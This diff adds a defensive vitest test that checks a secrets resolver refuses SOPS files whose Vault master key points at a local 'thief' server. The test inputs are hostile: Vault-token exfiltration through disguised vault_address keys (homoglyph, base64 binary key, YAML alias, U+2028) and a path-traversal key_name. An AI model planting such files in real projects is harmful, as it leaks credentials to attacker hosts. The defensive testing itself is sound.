@@ -1,13 +1,15 @@
 /** What test/secrets/sops.test.ts says of a stand-in, of real SOPS; and what its own commands do to versions. */
-import { execFileSync } from "node:child_process";
-import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { execFile, execFileSync } from "node:child_process";
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { describe, expect, onTestFinished, test } from "vitest";
+import { allowedHosts } from "../../src/http/index.js";
 import { currentVersion, resolve } from "../../src/secrets/index.js";
 import { startSops } from "../secrets/sops/source.js";
-import { describeSops } from "../secrets/sops/suite.js";
+import { describeSops, fixtures } from "../secrets/sops/suite.js";
 import { describeSource } from "../secrets/sources/compliance.js";
+import { canary, startThief } from "../security/thief.js";
 import { ageTool, hasSops, sopsTool } from "./sops.js";
 
 describe.skipIf(!hasSops())("real SOPS", () => {
@@ -52,5 +54,53 @@ describe.skipIf(!hasSops())("real SOPS", () => {
     run(sopsTool.program, "rotate", "--in-place", "a.yaml");
     expect(await version()).not.toBe(changed);
     expect(await value()).toBe("four");
+  });
+
+  test("a master key that it would log in for is found however it is written", async () => {
+    const root = await mkdtemp(path.join(tmpdir(), "avatarops-real-sops-"));
+    onTestFinished(() => rm(root, { recursive: true, force: true }));
+    const [yaml, dotenv] = await Promise.all(
+      ["production.yaml", "production.env"].map((file) => readFile(path.join(fixtures, file), "utf8")),
+    );
+    const key = (address: string, more = "key_name: k") =>
+      `hc_vault: [{ ${address}, engine_path: t, ${more}, created_at: "2026-01-01T00:00:00Z", enc: e }]`;
+    const inYaml = (key: string) => yaml?.replace("sops:\n", `sops:\n    ${key}\n`) ?? "";
+    const variables = (url: string) => {
+      const entries = { vault_address: url, engine_path: "t", key_name: "k", enc: "e" };
+      const lines = Object.entries({ ...entries, created_at: "2026-01-01T00:00:00Z" }).map(
+        ([name, value]) => `sops_hc_vault__list_0__map_${name}=${value}`,
+      );
+      return `${dotenv}\n${lines.join("\n")}\n`;
+    };
+    const written: readonly (readonly [file: string, text: (url: string) => string, path: string])[] = [
+      ["s.yaml", (url) => inYaml(key(`vault_address: "${url}"`)), "/v1/t/decrypt/k"],
+      ["s.yaml", (url) => inYaml(key(`VAULT_address: "${url}"`)), "/v1/t/decrypt/k"],
+      ["s.yaml", (url) => inYaml(key(`vault_addreſſ: "${url}"`)), "/v1/t/decrypt/k"],
+      ["s.yaml", (url) => inYaml(key(`!!binary dmF1bHRfYWRkcmVzcw==: "${url}"`)), "/v1/t/decrypt/k"],
+      ["s.yaml", (url) => `x: &a "${url}"\n${inYaml(key("vault_address: *a"))}`, "/v1/t/decrypt/k"],
+      ["s.env", variables, "/v1/t/decrypt/k"],
+      ["s.env", (url) => variables(`${url}/\u2028`), "/v1/t/decrypt/k"],
+      ["s.yaml", (url) => inYaml(key(`vault_address: "${url}"`, "key_name: ../../kv/prod")), "/v1/kv/prod"],
+    ];
+    for (const [file, text, asked] of written) {
+      const thief = await startThief();
+      const hostile = text(thief.url);
+      await writeFile(path.join(root, file), hostile);
+      const environment = { PATH: path.dirname(sopsTool.program), HOME: root, VAULT_TOKEN: canary };
+      await new Promise((ended) =>
+        execFile(sopsTool.program, ["decrypt", file], { cwd: root, env: environment }, ended),
+      );
+      expect(thief.heard(), hostile).toContain(canary);
+      expect(decodeURI(thief.heard()), hostile).toContain(asked);
+
+      const before = thief.heard();
+      const field = file === "s.env" ? "LLM_API_KEY" : "llm.api_key";
+      const source = { from: "sops", path: file, field };
+      const hosts = allowedHosts({ AVATAROPS_ALLOW_HOSTS: asked.includes("decrypt") ? "" : thief.host });
+      await expect(resolve(source, { root, environment, ...(hosts ? { hosts } : {}) })).rejects.toMatchObject(
+        { code: expect.stringMatching(/^(not-allowed|malformed)$/) },
+      );
+      expect(thief.heard(), hostile).toBe(before);
+    }
   });
 });
